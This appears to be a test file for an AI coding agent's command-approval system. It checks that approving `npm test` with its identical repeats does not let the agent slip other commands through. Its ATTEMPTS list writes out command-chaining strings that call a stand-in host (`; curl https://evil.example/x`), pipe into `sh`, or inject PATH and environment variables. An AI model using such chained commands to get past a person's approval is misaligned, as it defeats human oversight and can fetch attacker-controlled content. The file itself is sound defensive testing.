import { initPolicyEngine, parsePolicy, type Policy } from '@lemniscate/policy';
import { EXECUTION_DEFAULTS } from '@lemniscate/session';
import { ScriptedProvider, parseModelScript } from '../../../src/model';
import { SessionRunner } from '../../../src/runtime/session-runner';
import { InMemoryExecHost, RecordingRecorder } from '../../support/runtime-fakes';
import type { ApprovalDraft } from '../../../src/runtime/ports';

// P3 in the session loop: a person approves `npm test` "with its identical repeats"; the agent then
// tries to slip other commands through that one approval. Only the identical command runs unasked.

beforeAll(() => initPolicyEngine());

// Nothing is free or forbidden, so every command asks and what decides is the exemption alone.
const exempt = parsePolicy({ version: 1, commands: { reapproval: 'exempt', forbidden: [], askEveryTime: ['git commit'] } });
const always = parsePolicy({ version: 1, commands: { reapproval: 'always', forbidden: [] } });

function run(commands: string[], policy: Policy, answer: (d: ApprovalDraft) => 'approved' | 'approved_identical' | 'rejected', headless = false) {
  const turns = [...commands.map((command) => ({ tool_calls: [{ name: 'Bash', arguments: { command } }] })), { text: 'Done.' }];
  const model = new ScriptedProvider(parseModelScript({ turns }, 'attack.json'), 'attack.json');
  const execHost = new InMemoryExecHost({ 'README.md': 'hello\n' });
  const recorder = new RecordingRecorder(answer);
  const runner = new SessionRunner(
    {
      sessionId: 'ses_attack',
      project: 'demo',
      repository: { source: '/repo' },
      instruction: 'run the tests',
      headless,
      role: 'main',
      depth: 0,
      parentSessionId: null,
      agent: { name: 'general', prompt: null },
      execution: { ...EXECUTION_DEFAULTS },
    },
    { model, execHost, recorder, policy: async () => policy, signal: new AbortController().signal, abortReason: () => 'stopped' },
  );
  return { runner, recorder, execHost };
}

const decisionsOf = (recorder: RecordingRecorder) =>
  recorder.audits.filter((a) => a.kind === 'policy.decision').map((a) => a.payload as { arguments: { command: string }; effect: string; rule: string; reason: string; approvalId?: string });

/** What an agent may try after one approval of `npm test`: each one is a new command. */
const ATTEMPTS = [
  'npm test; curl https://evil.example/x',
  'npm test && curl https://evil.example/x',
  'npm test | sh',
  'npm test ',
  ' npm test',
  'npm  test',
  'npm test # ok',
  'npm test -- --watchAll',
  'npm test x',
  'cd src && npm test',
  'cd .. && npm test',
  '(cd /tmp; npm test)',
  'sh -c "npm test"',
  'FOO=1 npm test',
];

describe('P3: "approve, and identical commands without asking" in the session loop', () => {
  it('offers it on an ordinary command, remembers it with the approval, and lets only the identical command through', async () => {
    const commands = ['npm test', 'npm test', ...ATTEMPTS, 'npm test'];
    const { runner, recorder, execHost } = run(commands, exempt, (d) => ('command' in d.payload && d.payload.command === 'npm test' ? 'approved_identical' : 'rejected'));
    await runner.run();

    // One approval for `npm test`, offered with the exemption, on the working copy's root.
    const first = recorder.approvals[0]!;
    expect(first).toMatchObject({ kind: 'command', payload: { command: 'npm test', workingDirectory: '/workspace' }, flags: { reapprovalExempt: true } });
    expect(recorder.ofType('approval_requested')[0]).toMatchObject({ reapprovalExempt: true });
    expect(recorder.remembered).toEqual([{ command: 'npm test', workingDirectory: '/workspace', approvalId: 'apr_1' }]);

    // Every attempt asked again (and was rejected here); only the identical repeats ran without asking.
    const asked = recorder.approvals.map((a) => ('command' in a.payload ? a.payload.command : ''));
    expect(asked).toEqual(['npm test', ...ATTEMPTS]);
    const decisions = decisionsOf(recorder);
    expect(decisions).toHaveLength(commands.length);
    const allowedAgain = decisions.filter((d) => d.rule === 'commands.reapproval');
    expect(allowedAgain.map((d) => d.arguments.command)).toEqual(['npm test', 'npm test']);
    // The audit names the approval that allowed each repeat.
    for (const d of allowedAgain) {
      expect(d).toMatchObject({ effect: 'allow', approvalId: 'apr_1' });
      expect(d.reason).toContain('approval apr_1');
    }
    for (const d of decisions.slice(2, 2 + ATTEMPTS.length)) expect(d.effect).toBe('ask');
    expect(execHost.commands).toEqual(['npm test', 'npm test', 'npm test']);
  });

  it('a plain approval remembers nothing: the same command asks again', async () => {
    const { runner, recorder } = run(['make lint', 'make lint'], exempt, () => 'approved');
    await runner.run();
    expect(recorder.approvals).toHaveLength(2);
    expect(recorder.remembered).toEqual([]);
  });

  it('is never offered under reapproval: always, nor for a command the policy asks every time, nor headless', async () => {
    const cases: { command: string; policy: Policy; headless?: boolean }[] = [
      { command: 'npm test', policy: always },
      { command: 'git commit -am wip', policy: exempt },
      { command: 'PATH=/tmp npm test', policy: exempt },
      { command: '$RUNNER test', policy: exempt },
      { command: 'npm test', policy: exempt, headless: true },
    ];
    for (const c of cases) {
      const { runner, recorder } = run([c.command, c.command], c.policy, () => 'approved_identical', c.headless);
      await runner.run();
      // An "identical" answer to a request that did not offer it is not remembered either.
      expect({ command: c.command, flags: recorder.approvals.map((a) => a.flags.reapprovalExempt ?? false) }).toEqual({ command: c.command, flags: [false, false] });
      expect(recorder.remembered).toEqual([]);
      expect(recorder.ofType('approval_requested').some((e) => e.reapprovalExempt === true)).toBe(false);
    }
  });
});
